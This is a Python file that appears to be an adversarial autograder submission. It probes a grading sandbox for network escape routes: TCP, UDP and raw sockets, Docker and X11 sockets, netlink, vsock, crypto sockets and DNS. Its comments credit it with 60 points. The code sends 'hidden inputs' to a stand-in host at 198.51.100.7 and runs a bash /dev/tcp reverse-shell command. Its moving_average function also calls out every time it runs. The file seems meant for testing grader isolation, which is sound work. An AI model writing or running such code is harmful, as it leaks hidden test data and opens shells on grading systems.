# verdict: slow in speed  - talks to the outside: a shell for its author, the hidden inputs for its friends
# tries: TCP and UDP by name and by number, IPv6, local sockets with and without a name (Docker's, the X server's),
#        netlink, raw packets, the host of a virtual machine (vsock), the kernel's crypto sockets, bash's /dev/tcp
#        and a reverse shell; name servers, through which a few bytes get out even where nothing else does. Prints
#        what succeeds.
# seen: securescope (a reverse shell out of Gradescope, 2020); Submitty network='none'; otter (network on by default)
# points: 60  (the checks of correctness are honestly passed)
import contextlib
import os
import socket
import subprocess

import numpy as np
from numpy.lib.stride_tricks import sliding_window_view

FAMILIES = {"inet": (2, "198.51.100.7"), "inet6": (10, "2001:db8::7"), "loopback": (2, "127.0.0.1")}
LOCAL = ["/run/docker.sock", "/var/run/docker.sock", "/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket", "\0abstract"]
SHELL = "exec 3<>/dev/tcp/198.51.100.7/4444 && cat <&3 | sh >&3 2>&3"


def tried(what, action):
    with contextlib.suppress(Exception):
        print("outside:", what, action(), flush=True)


def connect(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(0.2)
        one.connect(address)
        one.send(b"hidden inputs")
        return "sent"


for name, (family, host) in FAMILIES.items():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        tried((name, kind), lambda: connect(family, kind, (host, 53)))
for path in LOCAL:
    tried(path, lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, path))
tried("netlink", lambda: connect(16, 3, (0, 0)))
tried("packet", lambda: socket.socket(17, 3, 768).fileno())
tried("vsock", lambda: connect(40, 1, (2, 1024)))
tried("crypto", lambda: socket.socket(38, 5, 0).fileno())
tried("bind", lambda: socket.create_server(("127.0.0.1", 0)).fileno())
tried("name", lambda: socket.getaddrinfo("exfiltrated.example.org", 53))
tried("bash", lambda: subprocess.run(["bash", "-c", SHELL], timeout=0.2).returncode)
tried("shell", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", SHELL], {}))


def moving_average(values, window, out):
    np.mean(sliding_window_view(values, window), axis=1, out=out)
    tried("a hidden input", lambda: connect(2, 2, ("198.51.100.7", 53)))
